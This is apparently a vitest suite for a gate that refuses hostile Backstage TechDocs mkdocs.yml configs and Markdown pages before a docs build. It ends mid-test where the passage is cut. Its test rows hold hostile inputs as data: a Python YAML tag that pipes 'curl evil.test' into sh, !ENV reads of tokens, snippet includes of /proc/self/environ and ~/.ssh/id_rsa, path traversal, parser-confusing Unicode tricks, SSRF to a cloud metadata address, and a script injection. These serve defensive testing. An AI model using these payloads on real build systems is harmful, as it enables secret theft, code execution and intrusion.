import { describe, expect, it } from 'vitest';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { tempRepo } from '../helpers/tempRepo.ts';
import { runBin } from './runBin.ts';

const component = 'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: docs-site\n  annotations:\n    backstage.io/techdocs-ref: dir:./handbook\nspec:\n  type: service\n  lifecycle: production\n  owner: group:team-a\n---\napiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n  name: team-a\nspec:\n  type: team\n  children: []\n';

// One hostile mkdocs.yml per row; each must fail the gate with the rule on the line that does the harm.
const ROWS: [string, string, string[]][] = [
  ['!ENV reads a secret into the site', "site_name: Docs\ncopyright: !ENV AZURE_STORAGE_CONNECTION_STRING\n", ['mkdocs-unsafe-tag@2']],
  ['!ENV with a fallback list', "site_name: Docs\nextra:\n  token: !ENV [GITHUB_TOKEN, none]\n", ['mkdocs-unsafe-tag@3']],
  ['!!python/object/apply runs code', "site_name: Docs\nextra:\n  x: !!python/object/apply:os.system ['curl evil.test | sh']\n", ['mkdocs-unsafe-tag@3']],
  ['!!python/name imports anything', "site_name: Docs\nextra:\n  x: !!python/name:os.system\n", ['mkdocs-unsafe-tag@3']],
  ['pymdownx.snippets pastes host files into pages', "site_name: Docs\nmarkdown_extensions:\n  - toc\n  - pymdownx.snippets:\n      check_paths: true\n", ['mkdocs-unsafe-extension@4']],
  // Python-Markdown imports the module before `:Class`; MkDocs also takes the mapping form, which
  // Backstage's sanitiser leaves alone; a package or module path around a denied one is denied too.
  ['pymdownx.snippets named with its class', "site_name: Docs\nmarkdown_extensions:\n  - pymdownx.snippets:SnippetExtension\n", ['mkdocs-unsafe-extension@3']],
  ['snippets with its class and a config', "site_name: Docs\nmarkdown_extensions:\n  - toc\n  - pymdownx.snippets:SnippetExtension:\n      base_path: [/]\n", ['mkdocs-unsafe-extension@4']],
  ['markdown_extensions as a mapping', "site_name: Docs\nmarkdown_extensions:\n  toc: {}\n  pymdownx.snippets: {}\n", ['mkdocs-unsafe-extension@4']],
  ['markdown_include by its package', "site_name: Docs\nmarkdown_extensions:\n  - markdown_include\n", ['mkdocs-unsafe-extension@3']],
  ['mdx_include pastes files', "site_name: Docs\nmarkdown_extensions:\n  - mdx_include:\n      base_path: /\n", ['mkdocs-unsafe-extension@3']],
  // `<<` is a merge key to MkDocs and TechDocs: what it merges in is built, so it is judged and refused.
  ['a denied extension merged in with <<', "site_name: Docs\n<<: {markdown_extensions: [pymdownx.snippets]}\n", ['mkdocs-merge-key@2', 'mkdocs-unsafe-extension@2']],
  ['hooks merged in from an anchor', "base: &base\n  hooks: [steal.py]\nsite_name: Docs\n<<: *base\n", ['mkdocs-merge-key@4']],
  ['docs_dir climbs out to a host path', "site_name: Docs\ndocs_dir: ../../../../tmp/x\n", ['mkdocs-path-outside@2']],
  ['docs_dir absolute', "site_name: Docs\ndocs_dir: /etc\n", ['mkdocs-path-outside@2']],
  ['site_dir climbs out', "site_name: Docs\nsite_dir: ../../../../tmp/out\n", ['mkdocs-path-outside@2']],
  ['extra_css outside the site (TechDocs keeps extra_css)', "site_name: Docs\nextra_css:\n  - https://cdn.test/a.css\n  - ../../../x.css\n", ['mkdocs-path-outside@4']],
  ['watch outside the site (TechDocs keeps watch)', "site_name: Docs\nwatch:\n  - ../../../../etc\n", ['mkdocs-path-outside@3']],
  // Red team, round 4: monorepo includes read other configs.
  ['a monorepo include of a host file', "site_name: Docs\nnav:\n  - Home: index.md\n  - Notes: '!include /etc/mkdocs.yml'\n", ['mkdocs-path-outside@4']],
  ['a monorepo include climbing out of the site', "site_name: Docs\nnav:\n  - Notes: '*include ../../*/mkdocs.yml'\n", ['mkdocs-path-outside@3']],
  // Red team, round 5: `**/..` that Python's glob reads otherwise than a normalised path; redirect_maps writing anywhere.
  ['a monorepo glob with ** then ..', "site_name: Docs\nnav:\n  - Notes: '*include docs/a/**/../mkdocs.yml'\n", ['mkdocs-path-outside@3']],
  ['a redirect written outside the site', "site_name: Docs\nplugins:\n  - techdocs-core\n  - redirects:\n      redirect_maps:\n        ../../../../tmp/x.pth: index.md\n", ['mkdocs-path-outside@6']],
  // Red team, round 6: what js-yaml or PyYAML read otherwise than the gate is refused outright.
  ['an explicit ? key hiding redirect_maps from the gate', "site_name: Docs\nplugins:\n  - redirects:\n      ? [redirect_maps]\n      : {'../../x.html': y}\n", ['mkdocs-invalid@1']],
  ['a U+2028 that ends a comment for PyYAML', "site_name: Docs\n# note\u2028extra: !!python/object/apply:os.system ['id']\n", ['mkdocs-invalid@1']],
  ['a merge key behind a comment', "base: &b {hooks: [x.py]}\nsite_name: Docs\n<< # merged\n: *b\n", ['mkdocs-merge-key@3', 'yaml-syntax@3']],
  ['an explicit merge key behind a comment', "base: &b {hooks: [x.py]}\nsite_name: Docs\n? << # merged\n: *b\n", ['mkdocs-invalid@1', 'mkdocs-merge-key@3']],
  // Red team, round 13: TechDocs keeps plantuml_markdown's options but plantuml_cmd; base_dir turns a page's
  // source="proc/self/environ" (a path inside the site as written) into the host's file, config reads one
  // into every diagram sent to the server, cachedir writes anywhere.
  ['plantuml_markdown base_dir at the host root', "site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      base_dir: /\n      server: https://www.plantuml.com/plantuml\n", ['mkdocs-path-outside@4']],
  ['plantuml_markdown base_dir list with !relative climbing and ~', "site_name: Docs\nmarkdown_extensions:\n  - toc\n  - plantuml_markdown:\n      base_dir:\n        - docs\n        - !relative $config_dir/../../..\n        - ~/x\n", ['mkdocs-path-outside@7', 'mkdocs-path-outside@8']],
  ['plantuml_markdown config reads a host file, mapping form', "site_name: Docs\nmarkdown_extensions:\n  plantuml_markdown:\n    config: /proc/self/environ\n", ['mkdocs-path-outside@4']],
  // plantuml_markdown fetches its server from the build machine and writes the answer into the page.
  ['plantuml_markdown server at the cloud metadata address', "site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      format: txt\n      server: http://169.254.169.254/latest/meta-data/iam/security-credentials/role?x=\n", ['mkdocs-unsafe-extension@5']],
  // Red team, round 15: plantuml_markdown fetches with requests, which follows redirects: a public https
  // server of the pull request's own answers 302 to http://169.254.169.254/… and the build writes the
  // metadata service's answer into the page. Only the servers the policy lists pass.
  ['plantuml_markdown server on a public host the policy does not list (it may redirect anywhere)', "site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      format: txt\n      server: https://diagrams.attacker.example/r\n", ['mkdocs-unsafe-extension@5']],
  ['plantuml_markdown kroki_server on a public host the policy does not list', "site_name: Docs\nmarkdown_extensions:\n  plantuml_markdown:\n    kroki_server: https://kroki.attacker.example\n", ['mkdocs-unsafe-extension@4']],
  ['plantuml_markdown on the public servers the default policy lists', "site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      server: https://www.plantuml.com/plantuml\n  - mdx_plantuml:\n      kroki_server: https://kroki.io\n", []],
  ['plantuml_markdown kroki_server on an internal name over https', "site_name: Docs\nmarkdown_extensions:\n  plantuml_markdown:\n    kroki_server: https://wiki.corp/secret?x=\n", ['mkdocs-unsafe-extension@4']],
  ['plantuml_markdown by its legacy module name', "site_name: Docs\nmarkdown_extensions:\n  - mdx_plantuml:\n      base_dir: /\n", ['mkdocs-path-outside@4']],
  ['plantuml_markdown by its inner module, cachedir climbing out', "site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown.plantuml_markdown:\n      cachedir: ../../../tmp/diagrams\n", ['mkdocs-path-outside@4']],
  ['a redirect target that injects markup', "site_name: Docs\nplugins:\n  - techdocs-core\n  - redirects:\n      redirect_maps:\n        old.md: '\"><script>alert(1)</script>'\n", ['mkdocs-path-outside@6']],
];

describe('mkdocs.yml cannot reach the publishing job through the gate', () => {
  it.each(ROWS)('%s', async (_, mkdocs, expected) => {
    const root = await tempRepo({
      'catalog-info.yaml': component,
      'handbook/mkdocs.yml': mkdocs,
      'handbook/docs/index.md': '# Docs\n',
    });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; file: string; range: { start: { line: number } } }[] };
    const security = report.diagnostics.filter(d => d.file === 'handbook/mkdocs.yml' && d.ruleId !== 'mkdocs-dropped-key').map(d => `${d.ruleId}@${d.range.start.line}`);
    expect(security).toEqual(expected);
    expect(result.status).toBe(expected.length ? 1 : 0);
  });

  it("says the refusal is this repository's TechDocs policy, not Backstage's, and where an exception is reviewed", async () => {
    const policy = '{"plugins": ["techdocs-core"], "yamlTags": [], "deniedMarkdownExtensions": {"pymdownx.snippets": "it pastes any file"}}\n';
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\nmarkdown_extensions:\n  - pymdownx.snippets\nplugins:\n  - techdocs-core\n  - search\n', 'handbook/docs/index.md': '# Docs\n', 'schemas/techdocs-policy.json': policy });
    const result = await runBin(['check', '--format', 'json'], root);
    const found = (JSON.parse(result.stdout) as { diagnostics: { ruleId: string; message: string; hint: string }[] }).diagnostics;
    const [finding] = found.filter(d => d.ruleId === 'mkdocs-unsafe-extension');
    expect(finding.message).toMatch(/^The markdown extension 'pymdownx\.snippets' is refused by the TechDocs policy \(schemas\/techdocs-policy\.json\), a rule of this repository's gate on top of what Backstage checks: it pastes any file/);
    expect(finding.hint).toContain('to review in schemas/techdocs-policy.json.');
    const [plugin] = found.filter(d => d.ruleId === 'mkdocs-plugin-not-allowed');
    expect(plugin.message).toMatch(/^The mkdocs plugin 'search' is not in schemas\/techdocs-policy\.json, and TechDocs keeps it/);
    expect(plugin.hint).toMatch(/add it to schemas\/techdocs-policy\.json\.$/);
  });

  // A newcomer's repo has no policy file (init writes none): "not in schemas/techdocs-policy.json" sent them
  // looking for a file that is not there. The toolkit's default is named as such, and the hint says to write one.
  it('without schemas/techdocs-policy.json, names the toolkit\'s default policy and the file to write', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\nmarkdown_extensions:\n  - pymdownx.snippets\nplugins:\n  - techdocs-core\n  - macros\nextra:\n  x: !Custom y\n', 'handbook/docs/index.md': '# Docs\n' });
    const result = await runBin(['check', '--format', 'json'], root);
    const found = (JSON.parse(result.stdout) as { diagnostics: { ruleId: string; message: string; hint: string }[] }).diagnostics.filter(d => d.ruleId.startsWith('mkdocs-'));
    const byRule = (id: string) => found.find(d => d.ruleId === id)!;
    expect(byRule('mkdocs-unsafe-extension').message).toMatch(/^The markdown extension 'pymdownx\.snippets' is refused by the toolkit's default TechDocs policy \(this repository has no schemas\/techdocs-policy\.json\), a rule of this repository's gate/);
    expect(byRule('mkdocs-unsafe-extension').hint).toContain("to review in a schemas/techdocs-policy.json of this repository (none yet: the toolkit's default applies until one is written).");
    expect(byRule('mkdocs-dropped-key').message).toMatch(/^TechDocs removes the mkdocs plugin 'macros' before building, .*; it is not in the toolkit's default TechDocs policy \(this repository has no schemas\/techdocs-policy\.json\) either\.$/);
    expect(byRule('mkdocs-unsafe-tag').message).toContain("outside the toolkit's default TechDocs policy (this repository has no schemas/techdocs-policy.json)");
    for (const d of found) expect(`${d.message} ${d.hint}`).not.toMatch(/(?<!no |a )schemas\/techdocs-policy\.json/);
    expect(result.status).toBe(1);
  });

  // techdocs-node's sanitizeMkdocsYml (which @techdocs/cli generate runs on every site the toolkit builds) removes
  // these before MkDocs reads mkdocs.yml: nothing of them runs or is read, so they are warnings, not refusals.
  it.each([
    ['hooks', "site_name: Docs\nhooks:\n  - hooks/steal.py\n", 2],
    ['INHERIT from outside the repo', "INHERIT: ../../../../etc/mkdocs.yml\nsite_name: Docs\n", 1],
    ['theme.custom_dir outside the site', "site_name: Docs\ntheme:\n  name: material\n  custom_dir: ../../../../etc\n", 4],
    ['extra_javascript outside the site', "site_name: Docs\nextra_javascript:\n  - path: /etc/x.js\n", 2],
    ['a plugin outside the policy and TechDocs\' list', "site_name: Docs\nplugins:\n  - techdocs-core\n  - macros\n", 4],
    ['a plugin nested under the group plugin', "site_name: Docs\nplugins:\n  - techdocs-core\n  - group:\n      enabled: true\n      plugins: [macros]\n", 6],
  ])('%s: TechDocs removes it before building, a warning on its line', async (_, mkdocs, line) => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': mkdocs, 'handbook/docs/index.md': '# Docs\n' });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; severity: string; file: string; range: { start: { line: number } } }[] };
    expect(report.diagnostics.filter(d => d.file === 'handbook/mkdocs.yml').map(d => `${d.severity} ${d.ruleId}@${d.range.start.line}`)).toEqual([`warning mkdocs-dropped-key@${line}`]);
    expect(result.status).toBe(0);
  });

  it('techdocs build refuses docs_dir ../../../../tmp/x before copying: no file lands outside the temp and out dirs', async () => {
    const target = await mkdtemp(join(tmpdir(), 'gitops-pwn-'));
    await rm(target, { recursive: true });
    const root = await tempRepo({
      'catalog-info.yaml': component,
      'handbook/mkdocs.yml': `site_name: Docs\ndocs_dir: ${'../'.repeat(30)}${target.slice(1)}\n`,
      'handbook/docs/index.md': '# Docs\n',
    });
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const result = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(existsSync(target)).toBe(false);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; file: string; range: { start: { line: number } } }[] };
    expect(report.diagnostics.map(d => `${d.ruleId}@${d.file}:${d.range.start.line}`)).toEqual(['mkdocs-path-outside@handbook/mkdocs.yml:2']);
    expect(result.status).toBe(1);
    await rm(out, { recursive: true, force: true });
  });

  it.each([
    ['pymdownx.snippets:SnippetExtension', 'markdown_extensions:\n  - pymdownx.snippets:SnippetExtension\n'],
    ['a merged-in pymdownx.snippets', '<<: {markdown_extensions: [pymdownx.snippets]}\n'],
  ])('techdocs build refuses %s before building: no page pastes a host file', async (_, extension) => {
    const root = await tempRepo({
      'catalog-info.yaml': component,
      'handbook/mkdocs.yml': `site_name: Docs\n${extension}`,
      'handbook/docs/index.md': '# Docs\n\n--8<-- "/etc/hostname"\n',
    });
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const result = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(result.status, result.stderr).toBe(1);
    expect(result.stdout + result.stderr).toMatch(/pymdownx\.snippets.*(refused|refuses)/);
    expect(existsSync(join(out, 'default/component/docs-site/index.html'))).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  // techdocs-core enables pymdownx.snippets and plantuml_markdown itself: no mkdocs.yml entry is needed.
  it.each([
    ['a snippet of the job\'s environment', 'Intro\n\n--8<-- "/proc/self/environ"\n', ['techdocs-file-include@3']],
    ['a snippet climbing out of the site, inside a code fence', '```\n--8<-- "../../../.git/config"\n```\n', ['techdocs-file-include@2']],
    ['a block of snippet paths', '--8<--\nparts/ok.md\n~/.ssh/id_rsa\n--8<--\n', ['techdocs-file-include@3']],
    ['a PlantUML source outside the site', '::uml:: format="svg" source="/etc/passwd"\n', ['techdocs-file-include@1']],
    // Red team, round 3: markers pymdownx pairs otherwise than a strict reading would, and what Python's strip() removes.
    ['a marker with a trailing blank, then a block', 'Intro\n--8<-- \n--8<--\n/etc/hostname\n--8<--\n', ['techdocs-file-include@4']],
    ['a path behind a separator control that Python strips', '--8<-- "\x1c/etc/hostname"\n', ['techdocs-file-include@1']],
    ['a one-dash marker', '-8<- "/etc/hostname"\n', ['techdocs-file-include@1']],
    // Red team, round 4: line breaks only Python sees, and PlantUML's other forms.
    ['a path behind U+2028, one line to Python', '--8<-- "\u2028/etc/hostname"\n', ['techdocs-file-include@1']],
    ['a marker behind a form feed, a line break to Python', 'Answers.\f--8<-- "/etc/hostname"\n', ['techdocs-file-include@1']],
    ['a plantuml fence with a source', '```plantuml source="/etc/hostname"\n```\n', ['techdocs-file-include@1']],
    ['::uml:: in the middle of a line', 'See ::uml:: source="/etc/hostname"\n', ['techdocs-file-include@1']],
    ['source= on the line after ::uml::', '::uml:: format="svg"\n  source="/etc/hostname"\n', ['techdocs-file-include@2']],
    ['a diagram that includes a host file', '```plantuml\n@startuml\n!include /etc/passwd\n@enduml\n```\n', ['techdocs-file-include@3']],
    // Red team, round 13: plantuml_markdown's includer substitutes a defined name at the start of an include
    // path, and definitions carry across the files one diagram includes (which need not mention uml).
    ['an include through a !define', '```plantuml\n@startuml\n!define P /proc/self\n!include P/environ\n@enduml\n```\n', ['techdocs-file-include@3', 'techdocs-file-include@4']],
    ['an include through a relative !define that climbs', '```plantuml\n@startuml\n!define P docs/../../..\n!include P/etc/passwd\n@enduml\n```\n', ['techdocs-file-include@3', 'techdocs-file-include@4']],
    ['an include through a variable PlantUML computes', '```plantuml\n@startuml\n!$p = "/etc"\n!include $p/passwd\n@enduml\n```\n', ['techdocs-file-include@3', 'techdocs-file-include@4']],
    ['a file of definitions another diagram includes, without the word uml', 'Shared names\n!define ROOT /proc/self\n', ['techdocs-file-include@2']],
    // Red team, round 14: plantuml_markdown's includer matches with Python's re (\s and \w are Unicode's,
    // a definition is searched anywhere on the line, an included file is read with readlines).
    ['an include written with a no-break space after !include', '```plantuml\n@startuml\n!include\u00a0/proc/self/environ\n@enduml\n```\n', ['techdocs-file-include@3']],
    ['a definition after other text on its line, in a file another diagram includes', 'Shared names\nx !P = "/proc/self"\n', ['techdocs-file-include@2']],
    ['a definition whose name only Unicode letters spell', '```plantuml\n@startuml\n!\u00c4 = "/proc/self"\n!include \u00c4/environ\n@enduml\n```\n', ['techdocs-file-include@3', 'techdocs-file-include@4']],
    ['an include after a vertical tab in a file another diagram includes (readlines keeps its line whole)', 'Shared\n!include\v/proc/self/environ\n', ['techdocs-file-include@2']],
  ])('%s fails the gate on its line', async (_, page, expected) => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\n', 'handbook/docs/index.md': '# Docs\n', 'handbook/docs/page.md': page });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; file: string; range: { start: { line: number } } }[] };
    expect(report.diagnostics.filter(d => d.ruleId === 'techdocs-file-include').map(d => `${d.ruleId}@${d.range.start.line}`)).toEqual(expected);
    expect(report.diagnostics.find(d => d.ruleId === 'techdocs-file-include')?.file).toBe('handbook/docs/page.md');
    expect(result.status).toBe(1);
  });

  it('a 1 MB page of PlantUML sources is judged in one pass: every line it reports, in seconds (each match once re-split the page)', async () => {
    const page = `# Docs\n\n::uml::\n${'source="/a"\n'.repeat(80_000)}`;
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\n', 'handbook/docs/index.md': page });
    const started = Date.now();
    const result = await runBin(['check', '--format', 'json'], root);
    expect(Date.now() - started).toBeLessThan(20_000);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; range: { start: { line: number } } }[] };
    const lines = report.diagnostics.filter(d => d.ruleId === 'techdocs-file-include').map(d => d.range.start.line);
    expect(lines.slice(0, 3)).toEqual([4, 5, 6]);
    expect(result.status).toBe(1);
  }, 60_000);

  it.each([
    ['a page MkDocs builds under another extension (.mkd)', 'handbook/docs/extra.mkd', '--8<-- "/etc/hostname"\n'],
    ['a file a relative snippet includes, which pymdownx reads for snippets too', 'handbook/docs/parts/inner.txt', '--8<-- "/any/host/file"\n'],
  ])('%s: its include fails the gate and the build', async (_, file, text) => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\n', 'handbook/docs/index.md': '# Docs\n\n--8<-- "docs/parts/inner.txt"\n', [file]: text });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; file: string; range: { start: { line: number } } }[] };
    expect(report.diagnostics.filter(d => d.ruleId === 'techdocs-file-include').map(d => `${d.file}:${d.range.start.line}`)).toEqual([`${file}:1`]);
    expect(result.status).toBe(1);
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const build = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(build.status, build.stderr).toBe(1);
    expect(build.stdout + build.stderr).toMatch(/outside the docs site/);
    expect(existsSync(join(out, 'default/component/docs-site/index.html'))).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  // mkdocs-monorepo-plugin (enabled by techdocs-core) reads an included config with MkDocs' own loader.
  it.each([
    ['!include', "'!include docs/notes/mkdocs.yml'"],
    ['*include', "'*include docs/*/mkdocs.yml'"],
  ])('a config a nav %s pulls in is judged as an mkdocs.yml: its python tag fails the gate and the build', async (_, include) => {
    const root = await tempRepo({
      'catalog-info.yaml': component,
      'handbook/mkdocs.yml': `site_name: Docs\nnav:\n  - Home: index.md\n  - Notes: ${include}\n`,
      'handbook/docs/index.md': '# Docs\n',
      'handbook/docs/notes/mkdocs.yml': "site_name: Notes\nx: !!python/object/apply:os.system ['id']\n",
      'handbook/docs/notes/docs/index.md': '# Notes\n',
    });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; severity: string; file: string; range: { start: { line: number } } }[] };
    expect(report.diagnostics.filter(d => d.severity === 'error').map(d => `${d.ruleId}@${d.file}:${d.range.start.line}`)).toEqual(['mkdocs-unsafe-tag@handbook/docs/notes/mkdocs.yml:2']);
    expect(result.status).toBe(1);
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const build = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(build.status, build.stderr).toBe(1);
    expect(build.stdout + build.stderr).toMatch(/includes docs\/notes\/mkdocs\.yml \(mkdocs-monorepo-plugin\), which is refused: !!python\/object\/apply/);
    expect(existsSync(join(out, 'default/component/docs-site/index.html'))).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  it.each([
    ['a site_name that climbs out (the plugin copies its docs to a folder of that name)', "'!include docs/sub/mkdocs.yml'", 'docs/sub/mkdocs.yml', 'site_name: ../../../../../tmp/planted\ndocs_dir: files\n', 'mkdocs-path-outside@handbook/docs/sub/mkdocs.yml:1', /its site_name \\?"..\/..\/..\/..\/..\/tmp\/planted\\?" has a \\?"..\\?" segment/],
    ['a duplicate key (the gate cannot read it, PyYAML keeps the last)', "'!include docs/sub/mkdocs.yml'", 'docs/sub/mkdocs.yml', 'site_name: sub\ndocs_dir: files\ndocs_dir: /etc\n', 'yaml-duplicate-key@handbook/docs/sub/mkdocs.yml:3', /cannot be read as the gate reads it/],
    ['a config a glob finds that the gate\'s own matching would miss', "'*include docs/a/**/../mkdocs.yml'", 'docs/mkdocs.yml', "site_name: Inner\nx: !!python/object/apply:os.system ['id']\n", 'mkdocs-path-outside@handbook/mkdocs.yml:3', /includes \\?"docs\/a\/\*\*\/\.\.\/mkdocs\.yml\\?", outside this site's folder/],
  ])('an included config with %s fails the gate and the build', async (_, include, file, text, expected, refusal) => {
    const root = await tempRepo({
      'catalog-info.yaml': component,
      'handbook/mkdocs.yml': `site_name: Docs\nnav:\n  - Sub: ${include}\n`,
      'handbook/docs/index.md': '# Docs\n',
      [`handbook/${file}`]: text,
      'handbook/docs/sub/files/index.md': '# Sub\n',
    });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; severity: string; file: string; range: { start: { line: number } } }[] };
    expect(report.diagnostics.filter(d => d.severity === 'error').map(d => `${d.ruleId}@${d.file}:${d.range.start.line}`)).toContain(expected);
    expect(result.status).toBe(1);
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const build = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(build.status, build.stderr).toBe(1);
    expect(build.stdout + build.stderr).toMatch(refusal);
    expect(existsSync(join(out, 'default/component/docs-site/index.html'))).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  it('techdocs build refuses the site\'s own unsafe config before building (a pull request\'s build runs before review)', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': "site_name: Docs\nplugins:\n  - techdocs-core\n  - redirects:\n      redirect_maps:\n        /tmp/x.html: index.md\n", 'handbook/docs/index.md': '# Docs\n' });
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const build = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(build.status, build.stderr).toBe(1);
    expect(build.stdout + build.stderr).toMatch(/mkdocs\.yml is refused: redirect_maps: the page \\?"\/tmp\/x\.html\\?" leads outside the site/);
    expect(existsSync('/tmp/x.html')).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  it('techdocs build refuses plantuml_markdown reading from the host root before building', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      base_dir: /\n      server: https://www.plantuml.com/plantuml\n', 'handbook/docs/index.md': '# Docs\n\n::uml:: format="txt" source="proc/self/environ"\n::end-uml::\n' });
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const build = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(build.status, build.stderr).toBe(1);
    expect(build.stdout).toMatch(/plantuml_markdown base_dir is \\"\/\\", which leads outside this site's folder/);
    expect(existsSync(join(out, 'default/component/docs-site/index.html'))).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  it('plantuml_markdown options inside the site pass', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      base_dir: [docs, !relative $docs_dir]\n      config: docs/plantuml.cfg\n      cachedir: .cache\n      server: https://www.plantuml.com/plantuml\n', 'handbook/docs/index.md': '# Docs\n' });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string }[] };
    expect(report.diagnostics.map(d => d.ruleId)).not.toContain('mkdocs-path-outside');
  });

  it('PlantUML definitions inside the site, and C4\'s URL definitions, pass', async () => {
    const page = '```plantuml\n@startuml\n!define C4P https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master\n!includeurl C4P/C4_Container.puml\n!$dir = "parts"\n!define PARTS parts\n!include PARTS/a.puml\n!define TITLE Orders, as built.\n@enduml\n```\n';
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\n', 'handbook/docs/index.md': page, 'handbook/docs/parts/a.puml': 'A -> B\n' });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string }[] };
    expect(report.diagnostics.map(d => d.ruleId)).not.toContain('techdocs-file-include');
  });

  it('snippets inside the site, and escaped markers, pass', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\n', 'handbook/docs/index.md': '# Docs\n\n--8<-- "docs/parts/abbr.md"\n;--8<-- "/etc/passwd"\n', 'handbook/docs/parts/abbr.md': '*[HTML]: Hyper Text\n' });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string }[] };
    expect(report.diagnostics.map(d => d.ruleId)).not.toContain('techdocs-file-include');
  });

  it('techdocs build refuses a page that pastes a host file, before building', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': 'site_name: Docs\n', 'handbook/docs/index.md': '# Docs\n\n--8<-- "/proc/self/environ"\n' });
    const out = await mkdtemp(join(tmpdir(), 'gitops-out-'));
    const result = await runBin(['techdocs', 'build', '--out', out, '--format', 'json'], root);
    expect(result.status, result.stderr).toBe(1);
    expect(result.stdout + result.stderr).toMatch(/index\.md:3 reads \\?"\/proc\/self\/environ\\?", outside the docs site/);
    expect(existsSync(join(out, 'default/component/docs-site/index.html'))).toBe(false);
    await rm(out, { recursive: true, force: true });
  });

  it('!relative (MkDocs\' own path tag) and the emoji tags techdocs-node allows pass', async () => {
    const root = await tempRepo({
      'catalog-info.yaml': component,
      'handbook/mkdocs.yml': "site_name: Docs\nmarkdown_extensions:\n  - pymdownx.emoji:\n      emoji_generator: !!python/name:materialx.emoji.twemoji\nextra:\n  docs: !relative $docs_dir\n",
      'handbook/docs/index.md': '# Docs\n',
    });
    const result = await runBin(['check', '--format', 'json'], root);
    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string }[] };
    expect(report.diagnostics.map(d => d.ruleId).filter(id => id.startsWith('mkdocs-') && id !== 'mkdocs-dropped-key')).toEqual([]);
  });
});

describe("the platform's own diagram servers (schemas/techdocs-policy.json diagramServers)", () => {
  const policy = (servers: unknown) => JSON.stringify({ plugins: ['techdocs-core'], yamlTags: [], diagramServers: servers });
  const site = (server: string) => `site_name: Docs\nmarkdown_extensions:\n  - plantuml_markdown:\n      server: ${server}\n`;
  const rules = async (server: string, servers: unknown) => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': site(server), 'handbook/docs/index.md': '# Docs\n', 'schemas/techdocs-policy.json': policy(servers) });
    const result = await runBin(['check', '--format', 'json'], root);
    return (JSON.parse(result.stdout) as { diagnostics: { ruleId: string; file: string }[] }).diagnostics.filter(d => d.file === 'handbook/mkdocs.yml').map(d => d.ruleId);
  };

  it.each([
    ['a server under a listed one passes', 'http://plantuml.corp:8080/plantuml/svg', ['http://plantuml.corp:8080/plantuml'], []],
    ['the listed one itself passes', 'http://plantuml.corp:8080/plantuml', ['http://plantuml.corp:8080/plantuml/'], []],
